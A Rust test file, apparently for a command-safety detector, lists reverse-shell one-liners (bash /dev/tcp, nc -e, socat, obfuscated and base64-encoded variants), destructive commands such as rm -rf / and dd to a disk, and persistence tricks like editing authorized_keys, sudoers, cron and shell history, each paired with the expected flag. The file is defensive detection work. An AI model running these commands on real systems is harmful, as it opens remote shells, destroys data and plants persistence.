//! Remote shells, damage and what stays behind.

use super::*;

#[test]
fn shells_on_sockets_are_seen() {
    all_do(&[
        ("bash -i >& /dev/tcp/192.0.2.7/99 0>&1", "rewire"),
        ("sh -i 5<> /dev/tcp/192.0.2.7/99 0<&5 1>&5 2>&5", "rewire"),
        (
            "exec 5<>/dev/tcp/192.0.2.7/99; cat <&5 | while read l; do $l 2>&5 >&5; done",
            "rewire",
        ),
        (
            "h=192.0.2.7; p=99; bash -i >& /dev/tcp/$h/$p 0>&1",
            "rewire",
        ),
        ("d=/dev/tcp; bash -i >& $d/192.0.2.7/99 0>&1", "rewire"),
        ("nc -e /bin/sh 192.0.2.7 99", "rewire"),
        ("nc 192.0.2.7 99 -e /bin/bash", "rewire"),
        ("ncat --exec '/bin/bash -i' 192.0.2.7 99", "rewire"),
        (
            "rm f; mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.7 99 > f",
            "rewire",
        ),
        ("mknod f p; nc 192.0.2.7 99 < f | bash > f", "rewire"),
        (
            "mkfifo f; bash -i < f 2>&1 | openssl s_client -quiet -connect 192.0.2.7:99 > f",
            "rewire",
        ),
        ("socat TCP:192.0.2.7:99 EXEC:sh", "rewire"),
        ("socat exec:'bash -li',pty tcp:192.0.2.7:99", "rewire"),
        ("telnet 192.0.2.7 99 | sh | telnet 192.0.2.7 98", "rewire"),
        ("n=nc; $n -e sh 192.0.2.7 99", "rewire"),
        (
            "f() { bash -i >& /dev/tcp/$1/$2 0>&1; }\nf 192.0.2.7 99",
            "rewire",
        ),
        ("eval 'bash -i >& /dev/tcp/192.0.2.7/99 0>&1'", "rewire"),
        (
            "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjcvOTkgMD4mMQ== | base64 -d | bash",
            "rewire",
        ),
        (
            "coproc bash -i; nc 192.0.2.7 99 <&${COPROC[0]} >&${COPROC[1]}",
            "rewire",
        ),
        (
            "perl -MSocket -e 'socket(S,2,1,6);exec(\"/bin/sh -i\")'",
            "rewire",
        ),
        (
            "ruby -rsocket -e 'f=TCPSocket.new(\"192.0.2.7\",99).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'",
            "rewire",
        ),
        (
            "php -r '$s=fsockopen(\"192.0.2.7\",99);exec(\"/bin/sh -i <&3\");'",
            "rewire",
        ),
        (
            "zsh -c 'zmodload zsh/net/tcp && ztcp 192.0.2.7 99 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
            "rewire",
        ),
    ]);
}

#[test]
fn damage_and_persistence_are_seen() {
    all_do(&[
        ("rm -rf \"${HOME}\"", "delete all ~"),
        ("x=/; rm -rf $x", "delete all /"),
        ("r\\m -r\"f\" /", "delete all /"),
        ("f() { rm -rf \"$1\"; }\nf /", "delete all /"),
        ("cd / && rm -rf ./*", "delete all /*"),
        ("find / -type f -delete", "delete all /"),
        ("find ~ -exec rm -rf {} +", "delete all ~"),
        ("dd if=/dev/zero of=/dev/sda", "delete /dev/sda"),
        ("shred -u ~/.ssh/id_rsa", "delete ~/.ssh/id_rsa"),
        (": > /etc/passwd", "to /etc/passwd"),
        ("echo x | sudo tee -a /etc/sudoers", "to /etc/sudoers"),
        (
            "echo k >> ~/.ssh/authorized_keys",
            "to ~/.ssh/authorized_keys",
        ),
        (
            "echo k | tee -a $HOME/.ssh/authorized_keys",
            "to ~/.ssh/authorized_keys",
        ),
        (
            "cp x ~/.config/systemd/user/x.service",
            "to ~/.config/systemd/user/x.service",
        ),
        (
            "(crontab -l; echo '* * * * * x') | crontab -",
            "/var/spool/cron",
        ),
        ("crontab jobs", "/var/spool/cron"),
        ("export HISTFILE=/dev/null", "run export HISTFILE=/dev/null"),
        ("HISTSIZE=0", "run export HISTSIZE=0"),
        ("unset HISTFILE", "run unset HISTFILE"),
        ("chmod u+s /bin/bash", "run chmod u+s /bin/bash"),
        ("x=setenforce; $x 0", "run setenforce 0"),
        ("cat > ~/.bashrc <<< 'x'", "to ~/.bashrc"),
        ("install -m 755 x /etc/cron.d/x", "to /etc/cron.d/x"),
        (
            "ln -sf $PWD/x .git/hooks/pre-commit",
            "to .git/hooks/pre-commit",
        ),
        ("sed -i '1i x' ~/.zshrc", "to ~/.zshrc"),
    ]);
}
